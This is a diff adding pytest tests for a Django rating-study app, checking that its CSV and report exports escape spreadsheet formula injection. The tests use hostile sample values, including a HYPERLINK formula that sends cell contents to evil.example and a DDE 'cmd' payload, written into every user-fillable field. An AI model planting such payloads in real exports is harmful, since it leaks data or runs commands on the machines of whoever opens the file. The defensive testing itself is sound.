@@ -1,0 +1,208 @@
+"""Every CSV export neutralises cells a spreadsheet would run as formulas
+(config/spreadsheet.py, OWASP's rule), and keeps numbers numbers.
+
+The export tests fill every field a stranger can fill (a crowd worker's
+comment and Prolific id, imported meeting and question ids, system and
+evaluator names, the study's name) with a hostile value, download each export
+the way a researcher does, and read it back with the csv module."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+from decimal import Decimal
+
+import pandas as pd
+import pytest
+from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
+from django.urls import reverse
+
+from annotator import services
+from config.spreadsheet import FORMULA_STARTS, csv_text, frame_csv, neutralise, neutralise_frame
+from corpus.models import Document, Question
+from generation.models import System
+from judging.models import Evaluator
+from tests.annotator.conftest import make_study
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+# --- The rule ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        HYPERLINK,
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "-",
+        "=",
+        "-0.5",  # text from someone, even when it reads like a number
+    ],
+)
+def test_text_that_starts_like_a_formula_gets_a_quote(text):
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["", "GPT-4", "a=b", "5", "0.5", "'=already quoted", " =1+1", "\n=1", "user:12"]
+)
+def test_other_text_is_unchanged(text):
+    assert neutralise(text) == text
+
+
+@pytest.mark.parametrize("value", [-0.5, -3, Decimal("-1.25"), 0, 7.5, True, False, None])
+def test_numbers_and_other_values_are_written_as_they_are(value):
+    assert neutralise(value) is value
+
+
+def test_csv_text_neutralises_header_and_cells_and_keeps_numbers():
+    text = csv_text(
+        ["id", "-rater", "comment", "score", "missing"],
+        [{"id": 1, "-rater": -0.5, "comment": HYPERLINK, "score": -2, "extra": "=dropped"}],
+    )
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert header == ["id", "'-rater", "comment", "score", "missing"]
+    assert row == ["1", "-0.5", "'" + HYPERLINK, "-2", ""]
+    assert float(row[1]) == -0.5  # the number reads back as a number
+
+
+def test_neutralise_frame_leaves_numeric_columns_numeric():
+    frame = pd.DataFrame(
+        {
+            "score": [-0.5, 2.0, math.nan],
+            "count": [-1, 2, 3],
+            "name": ["=1+1", "plain", None],
+            "kind": pd.Categorical(["@x", "y", "@x"]),
+            "=col": [True, False, True],
+        }
+    )
+    out = neutralise_frame(frame)
+    assert list(out.columns) == ["score", "count", "name", "kind", "'=col"]
+    assert out["score"].dtype == "float64" and out["count"].dtype == "int64"
+    assert out["name"].tolist()[:2] == ["'=1+1", "plain"] and out["name"].isna().tolist()[2]
+    assert out["kind"].tolist() == ["'@x", "y", "'@x"]
+    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed
+    rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
+    assert rows[1] == ["-0.5", "-1", "'=1+1", "'@x", "True"]
+    assert rows[3][0] == "" and rows[3][2] == ""
+
+
+def test_a_carriage_return_inside_a_text_stays_inside_its_cell():
+    frame = pd.DataFrame({"name": ["a\rb", "\r=1"], "n": [1, 2]})
+    rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
+    assert rows == [["name", "n"], ["a\rb", "1"], ["'\r=1", "2"]]
+    text = csv_text(["name"], [{"name": "a\rb"}])
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], ["a\rb"]]
+
+
+# --- Every export, with hostile values in every stranger-fillable field -------------------------
+
+HOSTILE = {
+    "comment": HYPERLINK,
+    "pid": "-2-3",  # a PROLIFIC_PID may start with "-"
+    "system": "+cmd|' /C calc'!A0",
+    "meeting": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "question_id": "\t=1+1",
+    "evaluator": "=evil()",
+    "study": "\r=2+5",
+}
+
+
+@pytest.fixture
+def hostile(two_meetings, client, django_user_model):
+    """A completed crowd rating whose every stranger-fillable field is hostile."""
+    system = System.objects.order_by("name").first()
+    System.objects.filter(pk=system.pk).update(name=HOSTILE["system"])
+    document = Document.objects.order_by("external_id").first()
+    Document.objects.filter(pk=document.pk).update(external_id=HOSTILE["meeting"])
+    question = Question.objects.filter(document=document).order_by("order").first()
+    Question.objects.filter(pk=question.pk).update(external_id=HOSTILE["question_id"])
+    Evaluator.objects.filter(name="gold-human-eval").update(name=HOSTILE["evaluator"])
+    study = make_study(name=HOSTILE["study"], raters=1)
+    assignment = services.start_assignment(study, pid=HOSTILE["pid"])
+    for position in range(1, len(assignment.item_order) + 1):
+        services.submit_rating(assignment, position, 7 if position > 1 else 1, 3.5)
+    services.rate_item(assignment, 1, score="1", comment=HOSTILE["comment"])
+    services.complete_assignment(assignment)
+    admin = django_user_model.objects.create_superuser("boss", "b@example.org", "pw-boss-123")
+    client.force_login(admin)
+    return study
+
+
+def read_back(text: str) -> tuple[list[str], list[list[str]]]:
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    return header, rows
+
+
+def is_number(cell: str) -> bool:
+    try:
+        return math.isfinite(float(cell))
+    except ValueError:
+        return False
+
+
+def assert_safe(header: list[str], rows: list[list[str]]) -> set[str]:
+    """No header or cell starts like a formula unless it is a number; returns
+    every cell, header included."""
+    cells = set(header) | {cell for row in rows for cell in row}
+    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
+    assert not dangerous, dangerous
+    return cells
+
+
+def column(header: list[str], rows: list[list[str]], name: str) -> list[str]:
+    return [row[header.index(name)] for row in rows]
+
+
+def test_study_exports_neutralise_hostile_values(client, hostile):
+    study = hostile
+    api_tidy = client.get(f"/api/studies/{study.pk}/export/tidy/").content.decode()
+    api_wide = client.get(f"/api/studies/{study.pk}/export/wide/").content.decode()
+    changelist = reverse("admin:annotator_study_changelist")
+    admin_tidy = client.post(
+        changelist, {"action": "export_tidy", ACTION_CHECKBOX_NAME: [study.pk]}
+    ).content.decode()
+    admin_wide = client.post(
+        changelist, {"action": "export_wide", ACTION_CHECKBOX_NAME: [study.pk]}
+    ).content.decode()
+    assert api_tidy == admin_tidy and api_wide == admin_wide
+
+    header, rows = read_back(api_tidy)
+    cells = assert_safe(header, rows)
+    for field in ("comment", "pid", "system", "meeting", "question_id", "study"):
+        assert "'" + HOSTILE[field] in cells, field
+    assert set(column(header, rows, "participant")) == {"'" + HOSTILE["pid"]}
+    scores = [int(s) for s in column(header, rows, "score")]
+    assert sorted(set(scores)) == [1, 7]  # numbers stay numbers
+    assert all(float(s) >= 0 for s in column(header, rows, "seconds"))
+
+    header, rows = read_back(api_wide)
+    cells = assert_safe(header, rows)
+    assert "'" + HOSTILE["pid"] in header  # a rater id as a column name
+    for field in ("system", "meeting", "question_id"):
+        assert "'" + HOSTILE[field] in cells, field
+    assert {int(s) for s in column(header, rows, "'" + HOSTILE["pid"])} == {1, 7}
+
+
+def test_report_exports_neutralise_hostile_values(client, hostile):
+    query = f"?split=test2&mode=st&study={hostile.pk}"
+    for fmt in ("csv", "csv-wide"):
+        answer = client.get(f"/analysis/report/{query}&format={fmt}")
+        assert answer.status_code == 200, answer.content
+        header, rows = read_back(answer.content.decode())
+        cells = assert_safe(header, rows)
+        for field in ("system", "meeting", "question_id", "evaluator"):
+            assert "'" + HOSTILE[field] in cells, (fmt, field)
+        if fmt == "csv":
+            assert "'" + HOSTILE["pid"] in column(header, rows, "rater")
+            assert all(is_number(s) for s in column(header, rows, "score"))
+        else:
+            assert "'" + HOSTILE["evaluator"] in header  # an evaluator as a column name
+            gold = [s for s in column(header, rows, "'" + HOSTILE["evaluator"]) if s]
+            assert gold and all(is_number(s) for s in gold)
